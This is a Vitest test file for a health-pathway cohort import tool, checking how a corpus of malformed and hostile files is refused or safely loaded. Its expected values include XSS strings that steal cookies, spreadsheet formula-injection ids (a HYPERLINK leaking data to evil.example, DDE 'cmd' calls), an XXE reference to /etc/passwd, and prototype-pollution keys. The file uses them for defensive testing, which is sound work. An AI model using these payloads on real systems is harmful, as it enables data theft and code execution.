import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { reportCsvLines } from '../../../src/core/analysis/reportCsv.ts';
import { analyseCohort } from '../../../src/core/analysis/analyseCohort.ts';
import { analysisReport } from '../../../src/core/analysis/analysisReport.ts';
import { DEFAULT_PARAMETERS } from '../../../src/core/analysis/parameters.ts';
import { summariseAnalysis } from '../../../src/core/analysis/summariseAnalysis.ts';
import { cohortToEvents } from '../../../src/core/cohort/cohortToEvents.ts';
import { decodeText } from '../../../src/core/cohort/decodeText.ts';
import { importCohort } from '../../../src/core/cohort/importCohort.ts';
import { daysFromCivil } from '../../../src/core/cohort/parseIsoDate.ts';
import type { Cohort } from '../../../src/core/cohort/types.ts';
import { csvCell } from '../../../src/core/csvCell.ts';
import { buildPathwayFigure } from '../../../src/core/figure/buildPathwayFigure.ts';
import { loadPathway } from '../../../src/core/pathway/loadedPathway.ts';
import type { Pathway } from '../../../src/core/pathway/types.ts';
import { parsePathway } from '../../../src/core/pathway/validatePathway.ts';
import { formatProblem, type Problem, type ProblemCode, type Result } from '../../../src/core/problems.ts';
import { pathway as testville } from '../cohort/helpers.ts';
import { assertCohortShape, assertProblemsShape, expectNotPolluted } from './invariants.ts';

/**
 * The hostile and broken input corpus (issue 7, item 2): one real file per case in tests/fixtures/hostile/,
 * read as the app reads a dropped file (bytes → decodeText → importCohort), cohorts against the Testville
 * pathway (tests/fixtures/cohorts/pathway.json), pathway files through parsePathway. Every file has one
 * entry below stating its outcome: the exact problems (code, row, column, a message fragment), or a
 * correct load (journey and event counts, plus what must hold of the loaded data). Files named
 * `pathway-*.json` are pathway files; all others are cohorts.
 *
 * Decisions where CONTRACT.md is silent (each is in its entry's title):
 * - Far-future dates load. The core is a pure function with no clock, so "in the future" has no meaning
 *   in it, and a year such as 2999 is a valid ISO date; a typo shows in the cohort's date range.
 * - Duplicate rows load and are kept as separate events: two identical contacts on one day are possible
 *   (two appointments), and dropping data silently would be worse than counting it.
 * - HTML and script in notes, labels and attributes load, kept as text; the UI renders them as text (no
 *   innerHTML anywhere in src/ui) and the figure escapes them.
 * - Formula-like journey ids (=, +, -, @) load; every CSV the app or command line writes neutralises
 *   them with `csvCell` (an apostrophe prefix), tested here on the command line's report.
 */
const dir = fileURLToPath(new URL('../../fixtures/hostile/', import.meta.url));
const bytesOf = (file: string) => readFileSync(dir + file);

interface ExpectedProblem {
  readonly code: ProblemCode;
  readonly row?: number;
  readonly column?: string;
  readonly messageIncludes: string;
}
interface Loads {
  readonly journeys: number;
  readonly events: number;
}
interface Entry {
  readonly file: string;
  /** The decision or the reason, as the test's title. */
  readonly outcome: string;
  /** A cohort's counts, `'valid'` for a pathway that loads, or the exact problems in order. */
  readonly expect: Loads | 'valid' | readonly ExpectedProblem[];
  /** What else must hold of the loaded cohort or pathway, or of the problems. */
  readonly also?: (result: Result<Cohort> | Result<Pathway>) => void;
  /** Values that must never appear in a problem message (identifiers are shown masked). */
  readonly neverShown?: readonly string[];
  /** Milliseconds the import may take at most: a hang guard for XML bombs only. */
  readonly within?: number;
}

const cohortOf = (r: Result<Cohort> | Result<Pathway>): Cohort => {
  if (!r.ok) throw new Error('expected a cohort');
  return r.value as Cohort;
};
const pathwayOf = (r: Result<Cohort> | Result<Pathway>): Pathway => {
  if (!r.ok) throw new Error('expected a pathway');
  return r.value as Pathway;
};
const day = (iso: string) => {
  const [y, m, d] = iso.split('-').map(Number);
  return daysFromCivil(y!, m!, d!);
};

const corpus: readonly Entry[] = [
  // ---- CSV: empty, structure, delimiters ----
  {
    file: 'empty.csv',
    outcome: 'refused: the file is empty',
    expect: [{ code: 'PL200', messageIncludes: 'the file is empty' }],
  },
  {
    file: 'whitespace-only.csv',
    outcome: 'refused: blank lines only count as empty',
    expect: [{ code: 'PL200', messageIncludes: 'the file is empty' }],
  },
  {
    file: 'header-only.csv',
    outcome: 'refused: a header but no event rows',
    expect: [{ code: 'PL200', row: 1, messageIncludes: 'has a header but no event rows' }],
  },
  {
    file: 'pipe-delimited.csv',
    outcome: 'refused: the header is one column separated by "|", named as such (one problem, not four)',
    expect: [
      {
        code: 'PL203',
        row: 1,
        messageIncludes:
          'is one column whose names are separated by "|"; columns must be separated by commas, semicolons or tabs',
      },
    ],
  },
  {
    file: 'missing-columns.csv',
    outcome: 'refused: the required service column is missing',
    expect: [
      { code: 'PL201', row: 1, column: 'service', messageIncludes: 'the column "service" is missing' },
    ],
  },
  {
    file: 'extra-cells.csv',
    outcome: 'refused: an unquoted comma in a note gives the row more cells than the header',
    expect: [{ code: 'PL202', row: 2, messageIncludes: 'the row has 6 cells but the header has 5 columns' }],
  },
  {
    file: 'too-many-columns.csv',
    outcome: 'refused: 1,001 columns (each costs memory per event); at most 1,000',
    expect: [
      { code: 'PL202', row: 1, messageIncludes: 'the file has 1,001 columns; at most 1,000 are allowed' },
    ],
  },
  {
    file: 'unclosed-quote.csv',
    outcome: 'refused: a quote opened in row 3 is never closed',
    expect: [
      { code: 'PL203', row: 3, messageIncludes: 'a quoted cell that starts in this row is never closed' },
    ],
  },
  {
    file: 'excel-semicolon-crlf-bom.csv',
    outcome: 'loads: Excel UK export (BOM, semicolons, CRLF, trailing delimiter, labels and capitals)',
    expect: { journeys: 1, events: 2 },
    also: (r) => {
      const c = cohortOf(r);
      expect(c.journeyIds).toEqual(['E01']);
      expect([...c.service].map((s) => testville.services[s]!.id)).toEqual(['school', 'ed']);
      expect([...c.row]).toEqual([2, 4]); // the blank line keeps its number
    },
  },
  // ---- CSV: values ----
  {
    file: 'unknown-service.csv',
    outcome: 'refused: an unknown service, listing the allowed ids',
    expect: [
      {
        code: 'PL202',
        row: 3,
        column: 'service',
        messageIncludes:
          '"moon_base" is not a service of pathway testville; allowed: school, gp, school_nurse',
      },
    ],
  },
  {
    file: 'unknown-activity.csv',
    outcome: 'refused: an unknown activity, listing the allowed ones',
    expect: [
      {
        code: 'PL202',
        row: 3,
        column: 'activity',
        messageIncludes: '"chatting" is not an activity; allowed: concern, contact, referral',
      },
    ],
  },
  {
    file: 'unknown-concern.csv',
    outcome: 'refused: an unknown concern code among known ones',
    expect: [
      {
        code: 'PL202',
        row: 2,
        column: 'concerns',
        messageIncludes: '"bullying" is not a concern code of pathway testville; allowed: self_harm, anxiety',
      },
    ],
  },
  {
    file: 'impossible-date.csv',
    outcome: 'refused: 2020-02-30 is not a real date (never rolled over to March)',
    expect: [
      {
        code: 'PL202',
        row: 3,
        column: 'date',
        messageIncludes: '"2020-02-30" is not a real calendar date or time',
      },
    ],
  },
  {
    file: 'mixed-date-formats.csv',
    outcome: 'refused at the one non-ISO date (05/01/2020); the ISO date and date-time with Z are fine',
    expect: [
      { code: 'PL202', row: 3, column: 'date', messageIncludes: '"05/01/2020" is not an ISO 8601 date' },
    ],
  },
  {
    file: 'far-future-dates.csv',
    outcome:
      'loads: far-future dates (2999, 9999) are valid ISO dates; the clock-free core does not judge them',
    expect: { journeys: 2, events: 3 },
    also: (r) => {
      const c = cohortOf(r);
      expect([...c.time]).toEqual([
        day('2020-01-06'),
        day('2999-01-01'),
        day('9999-12-31') + 86_399 / 86_400,
      ]);
      const analysis = analyseCohort(c, testville, loadPathway(testville).table, DEFAULT_PARAMETERS);
      // The crisis is 357,000 days after the concern: far beyond the horizon, so not a missed point.
      expect([...analysis.missed]).toEqual([0, 0, 0]);
    },
  },
  {
    file: 'duplicate-rows.csv',
    outcome:
      'loads: duplicate rows are kept as separate events, in file order (two identical contacts can happen)',
    expect: { journeys: 1, events: 4 },
    also: (r) => expect([...cohortOf(r).row]).toEqual([2, 3, 4, 5]),
  },
  {
    file: 'html-and-script.csv',
    outcome: 'loads: HTML and script in notes and attributes are kept verbatim, as text',
    expect: { journeys: 1, events: 2 },
    also: (r) => {
      const c = cohortOf(r);
      expect([...c.notes.values()]).toEqual([
        '<script>alert(1)</script>',
        '</textarea><svg onload=alert(1)> & "quoted" &amp; text',
      ]);
      expect(c.attributes.find((a) => a.name === 'school_year')?.values).toEqual([
        '<img src=x onerror=alert(document.cookie)>',
        '<b>Y9</b>',
      ]);
    },
  },
  {
    file: 'formula-injection-ids.csv',
    outcome:
      'loads: formula-like journey ids are kept; CSV exports neutralise them with a leading apostrophe',
    expect: { journeys: 4, events: 4 },
    also: (r) => {
      const c = cohortOf(r);
      const ids = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '-1+1',
      ];
      expect(c.journeyIds).toEqual(ids);
      for (const id of ids) expect(csvCell(id)).toMatch(/^"?'/);
      // The command line's CSV report (analyse --format csv) goes through csvCell.
      const report = analysisReport(
        c,
        testville,
        analyseCohort(c, testville, loadPathway(testville).table, DEFAULT_PARAMETERS),
      );
      const firstCells = [...reportCsvLines(report.journeys)]
        .join('')
        .trim()
        .split('\n')
        .slice(1)
        .map((line) => line.replace(/^"/, '').charAt(0));
      expect(firstCells).toEqual(["'", "'", "'", "'"]);
    },
  },
  // ---- encodings and binary ----
  {
    file: 'binary-renamed.csv',
    outcome: 'refused: a PNG renamed .csv is binary (NUL bytes)',
    expect: [{ code: 'PL203', row: 3, messageIncludes: 'it contains NUL bytes, so it looks binary' }],
  },
  {
    file: 'spreadsheet.xlsx',
    outcome: 'refused: an Excel workbook (a zip) is binary; save as CSV',
    expect: [
      { code: 'PL203', row: 1, messageIncludes: 'it contains NUL bytes, so it looks binary (a spreadsheet' },
    ],
  },
  {
    file: 'utf16-with-bom.csv',
    outcome: 'loads: UTF-16 LE with BOM (Excel "Unicode text") is decoded, accents and quotes intact',
    expect: { journeys: 1, events: 2 },
    also: (r) => expect([...cohortOf(r).notes.values()]).toEqual(['Élodie’s teacher noticed — “withdrawn”']),
  },
  {
    file: 'latin1.csv',
    outcome: 'refused: Latin-1 text is not valid UTF-8; the row of the first bad byte is named',
    expect: [{ code: 'PL203', row: 2, messageIncludes: 'it is not valid UTF-8' }],
  },
  // ---- JSON ----
  {
    file: 'json-not-an-array.json',
    outcome: 'refused: a single object, not an array of events',
    expect: [{ code: 'PL203', messageIncludes: 'must be an array of objects, one per event' }],
  },
  {
    file: 'json-nested-values.json',
    outcome: 'refused at the nested object; arrays of codes, numbers and null are accepted',
    expect: [
      {
        code: 'PL202',
        row: 3,
        column: 'school_year',
        messageIncludes: 'is an object; a value must be a string or a number',
      },
    ],
  },
  {
    file: 'json-syntax-error.json',
    outcome: 'refused: a trailing comma is a JSON syntax error, with its line',
    expect: [{ code: 'PL203', messageIncludes: 'the file is not valid JSON (line 3)' }],
  },
  {
    file: 'json-proto-keys.json',
    outcome: 'loads: "__proto__" and "constructor" keys become ordinary attributes; nothing is polluted',
    expect: { journeys: 1, events: 2 },
    also: (r) => {
      const c = cohortOf(r);
      expect(c.attributes.map((a) => a.name)).toEqual(['__proto__', 'constructor']);
      const [first] = cohortToEvents(c, testville);
      expect(Object.getPrototypeOf(first!.attributes)).toBe(Object.prototype);
      expect(Object.keys(first!.attributes)).toEqual(['__proto__', 'constructor']);
      expect(Object.getOwnPropertyDescriptor(first!.attributes, '__proto__')?.value).toBe('polluted');
      expectNotPolluted();
    },
  },
  // ---- XES ----
  {
    file: 'truncated.xes',
    outcome: 'refused: the file ends inside an event',
    expect: [{ code: 'PL203', row: 13, messageIncludes: 'the file is not well-formed XML: unclosed tag' }],
  },
  {
    file: 'xxe.xes',
    outcome: 'refused before any entity is used: an external entity to file:///etc/passwd',
    expect: [
      {
        code: 'PL203',
        row: 2,
        column: '<!DOCTYPE>',
        messageIncludes: 'entity declarations are refused for safety',
      },
    ],
    neverShown: ['root:', '/bin/'],
    within: 2000,
  },
  {
    file: 'billion-laughs.xes',
    outcome: 'refused at once: nested entity expansion ("billion laughs")',
    expect: [
      {
        code: 'PL203',
        row: 2,
        column: '<!DOCTYPE>',
        messageIncludes: 'they enable "billion laughs" and external-entity attacks',
      },
    ],
    neverShown: ['lollol'],
    within: 2000,
  },
  {
    file: 'undeclared-entity.xes',
    outcome: 'refused: an entity that is not one of the five predefined ones is never expanded',
    expect: [
      { code: 'PL203', row: 8, messageIncludes: 'undefined entity; only the five predefined XML entities' },
    ],
  },
  {
    file: 'not-xml.xes',
    outcome: 'refused: plain text named .xes',
    expect: [{ code: 'PL203', row: 1, messageIncludes: 'the file has no <log> element' }],
  },
  {
    file: 'no-traces.xes',
    outcome: 'refused: a log without traces has no events',
    expect: [{ code: 'PL200', row: 1, messageIncludes: 'the log has no events' }],
  },
  {
    file: 'missing-timestamps.xes',
    outcome: 'refused: an event without time:timestamp',
    expect: [
      {
        code: 'PL202',
        row: 10,
        column: 'time:timestamp',
        messageIncludes: 'is empty; give an ISO 8601 date',
      },
    ],
  },
  {
    file: 'bad-timestamp.xes',
    outcome: 'refused: an impossible xs:dateTime (2020-02-30)',
    expect: [
      {
        code: 'PL203',
        row: 8,
        column: '<date key="time:timestamp">',
        messageIncludes: '"2020-02-30T00:00:00Z" is not a valid xs:dateTime',
      },
    ],
  },
  {
    file: 'html-in-xes.xes',
    outcome: 'loads: escaped markup in XES values is kept as text',
    expect: { journeys: 1, events: 1 },
    also: (r) => {
      const c = cohortOf(r);
      expect(c.journeyIds).toEqual(['<script>alert(1)</script>']);
      expect([...c.notes.values()]).toEqual(['<img src=x onerror=alert(1)>']);
    },
  },
  // ---- identifying data (anonymity guard): refused, values masked ----
  {
    file: 'nhs-number-in-note.csv',
    outcome: 'refused: an NHS number in a note, masked in the message',
    expect: [
      { code: 'PL300', row: 3, column: 'note', messageIncludes: 'looks like an NHS number (943 *** ****' },
    ],
    neverShown: ['943 476 5919', '9434765919', '476'],
  },
  {
    file: 'nhs-number-as-journey-id.csv',
    outcome: 'refused: an NHS number used as the journey id',
    expect: [
      {
        code: 'PL300',
        row: 2,
        column: 'journey_id',
        messageIncludes: 'journey ids must be pseudonyms such as C01',
      },
    ],
    neverShown: ['9434765919'],
  },
  {
    file: 'postcode-column.csv',
    outcome: 'refused: a postcode column (by its name) and its value (by its shape, masked)',
    expect: [
      {
        code: 'PL300',
        row: 1,
        column: 'postcode',
        messageIncludes: 'the column name suggests it holds postcodes',
      },
      { code: 'PL300', row: 2, column: 'postcode', messageIncludes: 'looks like a UK postcode (CV* ***' },
    ],
    neverShown: ['CV1 2AB', '2AB'],
  },
  {
    file: 'email-in-note.csv',
    outcome: 'refused: an email address in a note, masked',
    expect: [
      { code: 'PL300', row: 2, column: 'note', messageIncludes: 'looks like an email address (j***.***@' },
    ],
    neverShown: ['jane.doe', 'example.co.uk'],
  },
  {
    file: 'phone-in-attribute.csv',
    outcome: 'refused: a UK phone number in an attribute column, masked',
    expect: [
      {
        code: 'PL300',
        row: 2,
        column: 'contact_detail',
        messageIncludes: 'looks like a UK phone number (02* **** ****',
      },
    ],
    neverShown: ['7655', '1234'],
  },
  {
    file: 'dob-column.csv',
    outcome: 'refused: a DOB column, by its name',
    expect: [
      {
        code: 'PL300',
        row: 1,
        column: 'dob',
        messageIncludes: 'the column name suggests it holds dates of birth',
      },
    ],
    neverShown: ['2008-04-12'],
  },
  {
    file: 'dob-in-note.csv',
    outcome: 'refused: a date of birth in a note, masked',
    expect: [
      {
        code: 'PL300',
        row: 2,
        column: 'note',
        messageIncludes: 'looks like a date of birth (DOB: **/**/****',
      },
    ],
    neverShown: ['12/04/2008'],
  },
  // ---- pathway files ----
  {
    file: 'pathway-duplicate-service-ids.json',
    outcome: 'refused: two services share the id gp',
    expect: [
      {
        code: 'PL102',
        column: 'services[3].id',
        messageIncludes: 'id "gp" is used again (first at services[1])',
      },
    ],
  },
  {
    file: 'pathway-unknown-level.json',
    outcome: 'refused: a service in a level the pathway does not define',
    expect: [
      {
        code: 'PL103',
        column: 'services[1].level',
        messageIncludes: 'level "tier5" is not defined in levels; allowed: universal, crisis',
      },
    ],
  },
  {
    file: 'pathway-route-to-unknown-service.json',
    outcome: 'refused: a route to a service the pathway does not define',
    expect: [
      {
        code: 'PL103',
        column: 'routes[3].to',
        messageIncludes: 'service "narnia" is not defined in services; allowed: school, gp, ed',
      },
    ],
  },
  {
    file: 'pathway-route-cycle.json',
    outcome: 'loads: cycles of routes (and a self-loop) are valid — children step down and back up',
    expect: 'valid',
    also: (r) => {
      const p = pathwayOf(r);
      expect(p.routes).toHaveLength(5);
      const loaded = loadPathway(p);
      const csv = [
        'journey_id,day,service,activity,concerns',
        'Y01,0,school,concern,self_harm',
        'Y01,5,gp,referral,',
        'Y01,9,school,contact,',
        'Y01,12,gp,contact,',
        'Y01,20,ed,admission,self_harm',
        'Y01,30,gp,contact,',
      ].join('\n');
      const cohort = importCohort('cycle.csv', csv, p);
      if (!cohort.ok) throw new Error(cohort.problems.map(formatProblem).join('\n'));
      const analysis = analyseCohort(cohort.value, p, loaded.table, DEFAULT_PARAMETERS);
      expect(analysis.reachedCrisis[0]).toBe(1);
    },
  },
  {
    file: 'pathway-missing-fields.json',
    outcome: 'refused: every missing required field is named by its path',
    expect: [
      { code: 'PL101', column: 'title', messageIncludes: 'is required (string) but missing' },
      { code: 'PL101', column: 'services[0].label', messageIncludes: 'is required (string) but missing' },
      { code: 'PL101', column: 'routes[0].from', messageIncludes: 'is required (string) but missing' },
    ],
  },
  {
    file: 'pathway-wrong-types.json',
    outcome: 'refused: every value of the wrong type is named with what it should be',
    expect: [
      { code: 'PL101', column: 'version', messageIncludes: 'true should be string or number' },
      { code: 'PL101', column: 'levels', messageIncludes: '{"universal":"Universal"} should be array' },
      { code: 'PL101', column: 'services[0].tags', messageIncludes: '"early-intervention" should be array' },
      {
        code: 'PL104',
        column: 'routes[1].activity',
        messageIncludes: '"teleport" is not allowed; allowed: concern',
      },
    ],
  },
  {
    file: 'pathway-not-json.json',
    outcome: 'refused: YAML is not JSON',
    expect: [
      { code: 'PL100', messageIncludes: 'is not valid JSON. Check for a missing comma, quote or bracket' },
    ],
  },
  {
    file: 'pathway-huge-ids.json',
    outcome: 'refused: 5,000-character ids, duplicated and unknown, quoted shortened in the messages',
    expect: [
      { code: 'PL102', column: 'services[4].id', messageIncludes: 'xxxxxxxx…" is used again' },
      { code: 'PL103', column: 'routes[3].to', messageIncludes: 'yyyyyyyy…" is not defined in services' },
    ],
    also: (r) => {
      if (r.ok) throw new Error('expected problems');
      for (const p of r.problems) expect(p.message.length).toBeLessThan(400);
    },
  },
  {
    file: 'pathway-hostile-labels.json',
    outcome:
      'loads: HTML, script and formulas in labels stay text; the figure escapes them and its CSV neutralises them',
    expect: 'valid',
    also: (r) => {
      const p = pathwayOf(r);
      expect(p.services[0]!.label).toBe("=cmd|' /C calc'!A0");
      const csv = [
        'journey_id,day,service,activity,concerns',
        ...Array.from({ length: 6 }, (_, i) => [
          `Z${i},0,school,concern,self_harm`,
          `Z${i},40,ed,admission,`,
        ]).flat(),
      ].join('\n');
      const cohort = importCohort('hostile-labels.csv', csv, p);
      if (!cohort.ok) throw new Error(cohort.problems.map(formatProblem).join('\n'));
      const analysis = analyseCohort(cohort.value, p, loadPathway(p).table, DEFAULT_PARAMETERS);
      const figure = buildPathwayFigure({
        pathway: p,
        summary: summariseAnalysis(cohort.value, p, analysis),
        parameters: DEFAULT_PARAMETERS,
        cohortInfo: { name: 'hostile-labels.csv', synthetic: true, journeys: 6 },
      });
      // The SVG holds the labels as escaped text: no element or attribute of theirs.
      for (const tag of ['<script', '<img', '<svg onload', '<b ', '<a ', '<i>', ']]></text>']) {
        expect(figure.svg).not.toContain(tag);
      }
      expect(figure.svg).toContain('&lt;svg onload=alert(1)&gt;');
      // Every CSV cell that a spreadsheet would read as a formula starts with an apostrophe.
      const cells = figure.csv
        .trim()
        .split('\n')
        .flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g) ?? [])
        .map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
      expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
      expect(figure.csv).toContain("'=cmd|' /C calc'!A0");
    },
  },
  {
    file: 'pathway-too-many-services.json',
    outcome:
      'refused: 101 services; at most 100 (the replay table grows with services², a hostile one would freeze the app)',
    expect: [
      {
        code: 'PL101',
        column: 'services',
        messageIncludes: 'has 101 entries; at most 100 services are allowed',
      },
    ],
  },
  {
    file: 'pathway-proto-pollution.json',
    outcome: 'loads: "__proto__"/"constructor"/"prototype" keys pollute nothing and inject no fields',
    expect: 'valid',
    also: (r) => {
      const p = pathwayOf(r);
      expectNotPolluted();
      expect(Object.getPrototypeOf(p)).toBe(Object.prototype);
      expect(Object.getPrototypeOf(p.services[0])).toBe(Object.prototype);
      expect(p.sourceUrl).toBeUndefined();
      expect(p.services[0]!.tags).toEqual(['early-intervention']);
      expect(p.routes[0]!.activity).toBeUndefined();
      loadPathway(p);
      expectNotPolluted();
    },
  },
];

function run(entry: Entry): { result: Result<Cohort> | Result<Pathway>; ms: number } {
  const text = decodeText(bytesOf(entry.file));
  const t0 = performance.now();
  const result = entry.file.startsWith('pathway-')
    ? parsePathway(text, entry.file)
    : importCohort(entry.file, text, testville);
  return { result, ms: performance.now() - t0 };
}

const isLoad = (e: Entry['expect']): e is Loads | 'valid' => !Array.isArray(e);

describe('hostile input corpus (tests/fixtures/hostile)', () => {
  it('has an expected outcome for every file in the folder, and a file for every entry', () => {
    const files = readdirSync(dir).sort();
    expect(corpus.map((e) => e.file).sort()).toEqual(files);
    expect(files.length).toBeGreaterThanOrEqual(30);
  });

  it.each(corpus.map((e) => [`${e.file}: ${e.outcome}`, e] as const))('%s', (_title, entry) => {
    const { result, ms } = run(entry);
    if (isLoad(entry.expect)) {
      if (!result.ok)
        throw new Error(
          `expected ${entry.file} to load, got:\n${result.problems.map(formatProblem).join('\n')}`,
        );
      if (entry.expect !== 'valid') {
        const c = result.value as Cohort;
        assertCohortShape(c, testville);
        expect({ journeys: c.journeyIds.length, events: c.time.length }).toEqual(entry.expect);
      }
    } else {
      const expected = entry.expect;
      if (result.ok) throw new Error(`expected ${entry.file} to be refused, but it loaded`);
      assertProblemsShape(result.problems);
      const actual = result.problems.map((p: Problem) => ({ code: p.code, row: p.row, column: p.column }));
      expect(actual).toEqual(expected.map((p) => ({ code: p.code, row: p.row, column: p.column })));
      result.problems.forEach((p, i) => {
        expect(p.message).toContain(expected[i]!.messageIncludes);
        expect(p.file).toBe(entry.file);
        for (const secret of entry.neverShown ?? []) expect(formatProblem(p)).not.toContain(secret);
      });
    }
    entry.also?.(result);
    if (entry.within !== undefined) expect(ms).toBeLessThan(entry.within);
    expectNotPolluted();
  });
});

/**
 * `n` CSV rows of one journey, ten days apart, cycling: a concern at school, a GP contact, an ED
 * admission (crisis), a discharge from ward 14 (crisis), a school nurse contact, an MHST assessment.
 * Every school concern is a missed point: the only response within 28 days is the ED admission, which
 * is at a crisis service, and the crisis comes 20 days later.
 */
function longJourneyCsv(n: number): string {
  const steps = [
    'school,concern,anxiety',
    'gp,contact,',
    'ed,admission,self_harm',
    'ward14,discharge,',
    'school_nurse,contact,',
    'mhst,assessment,low_mood',
  ];
  const lines = ['journey_id,day,service,activity,concerns'];
  for (let i = 0; i < n; i++) lines.push(`LONG,${10 * i},${steps[i % steps.length]!}`);
  return `${lines.join('\n')}\n`;
}

describe('hostile input generated at run time (too big to commit)', () => {
  it('a journey of 10,000 events loads, and the analysis runs over it', () => {
    const r = importCohort('long-journey.csv', longJourneyCsv(10_000), testville);
    if (!r.ok) throw new Error(r.problems.map(formatProblem).join('\n'));
    const c = r.value;
    assertCohortShape(c, testville);
    expect({ journeys: c.journeyIds.length, events: c.time.length }).toEqual({ journeys: 1, events: 10_000 });
    const analysis = analyseCohort(c, testville, loadPathway(testville).table, DEFAULT_PARAMETERS);
    expect(analysis.move).toHaveLength(10_000);
    expect(analysis.reachedCrisis[0]).toBe(1);
    const missed = [...analysis.missed].filter((m) => m === 1).length;
    expect(missed).toBe(Math.ceil(10_000 / 6));
    const report = analysisReport(c, testville, analysis);
    expect(report.journeys[0]!.events).toBe(10_000);
  });

  it('a file over the size limit is refused, saying its size and the limit', () => {
    const line = 'C01,2020-01-06,school,concern,anxiety\n';
    const text = `journey_id,date,service,activity,concerns\n${line.repeat(Math.ceil((2 * 1024 * 1024) / line.length))}`;
    const r = importCohort('big.csv', text, testville, { maxBytes: 1024 * 1024 });
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.problems.map((p) => [p.code, p.row, p.column])).toEqual([['PL204', undefined, undefined]]);
    expect(r.problems[0]!.message).toBe(
      'the file is 2.0 MB; the limit is 1.0 MB. Split the cohort or raise the limit (option maxBytes).',
    );
  });

  it('the limit counts UTF-8 bytes, not characters: 600,000 "é" are 1.1 MB', () => {
    const text = `journey_id,date,service,activity,note\nC01,2020-01-06,school,concern,${'é'.repeat(600_000)}\n`;
    const r = importCohort('accents.csv', text, testville, { maxBytes: 1024 * 1024 });
    expect(r.ok ? [] : r.problems.map((p) => p.code)).toEqual(['PL204']);
    expect(r.ok ? '' : r.problems[0]!.message).toContain('the file is 1.1 MB; the limit is 1.0 MB');
  });

  it('a file whose size (File.size) is over the default 200 MB limit is refused without reading its text', () => {
    const r = importCohort('huge.csv', '', testville, { byteLength: 300 * 1024 * 1024 });
    expect(r.ok ? '' : formatProblem(r.problems[0]!)).toBe(
      'huge.csv: the file is 300 MB; the limit is 200 MB. Split the cohort or raise the limit (option maxBytes). [PL204]',
    );
  });

  it('a 1 MB cell (a very long line) loads, kept whole', () => {
    const note = 'Worried about sleep and eating. '.repeat(32_768); // 1 MiB
    const r = importCohort(
      'long-line.csv',
      `journey_id,date,service,activity,note\nC01,2020-01-06,school,concern,${note}\n`,
      testville,
    );
    if (!r.ok) throw new Error(r.problems.map(formatProblem).join('\n'));
    expect(r.value.notes.get(0)).toBe(note.trim());
  });

  // Before the anonymity guard's patterns were bounded, the first three notes took about two minutes each
  // at this size (quadratic backtracking; half an hour at 1 MB), freezing the import. Now each takes
  // milliseconds; the bound is a generous hang guard, not a benchmark.
  it.each([
    ['letters then "@" (the email pattern)', `${'a'.repeat(1 << 18)}@`],
    ['"a@" then dotted labels (the email pattern)', `a@${'a.'.repeat(1 << 17)}`],
    ['"dob" then spaces (the date-of-birth pattern)', `dob${' '.repeat(1 << 18)}12`],
    ['digits (the NHS number and phone patterns)', '0'.repeat(1 << 18)],
  ])('a 256 KiB note of %s is scanned in linear time, not frozen', (_what, note) => {
    const csv = `journey_id,date,service,activity,note\nC01,2020-01-06,school,concern,"${note}"\n`;
    const t0 = performance.now();
    const r = importCohort('redos.csv', csv, testville);
    expect(performance.now() - t0).toBeLessThan(5000);
    if (!r.ok) throw new Error(r.problems.map(formatProblem).join('\n'));
    expect(r.value.notes.get(0)).toBe(note.trim());
  });

  it('a header of 200,000 columns (a 1.4 MB file) is refused at once, allocating next to nothing', () => {
    // Before the column limit and the on-demand attribute arrays, this file took 19 GB and 70 s.
    const header = Array.from({ length: 200_000 }, (_, i) => `c${i}`).join(',');
    const r = importCohort('wide.csv', `${header}\nC01,2020-01-06,school,concern\n`, testville);
    expect(r.ok ? [] : r.problems.map((p) => [p.code, p.row])).toEqual([['PL202', 1]]);
    expect(r.ok ? '' : r.problems[0]!.message).toContain('the file has 200,000 columns; at most 1,000');
  });

  it('an XES trace of 2,000 attributes and 20,000 events (2 MB) is refused without copying them per event', () => {
    // Before, every event copied its trace's attributes: 1.3 GB and 6 s before the column limit applied.
    const attrs = Array.from({ length: 2000 }, (_, i) => `<string key="k${i}" value="v"/>`).join('');
    const event =
      '<event><string key="concept:name" value="gp"/><date key="time:timestamp" value="2020-01-01T00:00:00Z"/></event>\n';
    const xes = `<log><trace><string key="concept:name" value="T"/>${attrs}\n${event.repeat(20_000)}</trace></log>`;
    const r = importCohort('wide.xes', xes, testville);
    expect(r.ok ? [] : r.problems.map((p) => [p.code, p.row])).toEqual([['PL202', 1]]);
    expect(r.ok ? '' : r.problems[0]!.message).toContain('the file has 2,004 columns; at most 1,000');
  });

  it('a pathway of 5,000 services and 50,000 routes is refused before its machine is built', () => {
    // Compiling the replay table asks the machine about every pair of services: minutes for this file.
    const services = Array.from({ length: 5000 }, (_, i) => ({
      id: `s${i}`,
      label: `S${i}`,
      level: 'l',
      agency: 'A',
      tags: [],
      description: '',
    }));
    const routes = Array.from({ length: 50_000 }, (_, i) => ({
      from: `s${i % 5000}`,
      to: `s${(i * 7 + 1) % 5000}`,
    }));
    const text = JSON.stringify({
      ...{ id: 'big', title: 'Big', area: 'A', source: 'S', version: '1' },
      ...{ levels: [{ id: 'l', label: 'L' }], services, routes, concerns: [] },
    });
    const r = parsePathway(text, 'big.json');
    expect(r.ok ? [] : r.problems.map((p) => `${p.column ?? ''}: ${p.message}`)).toEqual([
      'services: has 5000 entries; at most 100 services are allowed.',
      'routes: has 50000 entries; at most 1000 routes are allowed.',
    ]);
  });

  it('a 1 MB cell of unknown concern codes gives one short message', () => {
    const codes = Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(';');
    const r = importCohort(
      'codes.csv',
      `journey_id,date,service,activity,concerns\nC01,2020-01-06,school,concern,${codes}\n`,
      testville,
    );
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.problems).toHaveLength(1);
    expect(r.problems[0]!.message).toMatch(
      /^100,000 values are not concern codes of pathway testville: "c0" \(row 2\), .*"c9" \(row 2\) and 99,990 more values; allowed/,
    );
    expect(r.problems[0]!.message.length).toBeLessThan(400);
  });
});
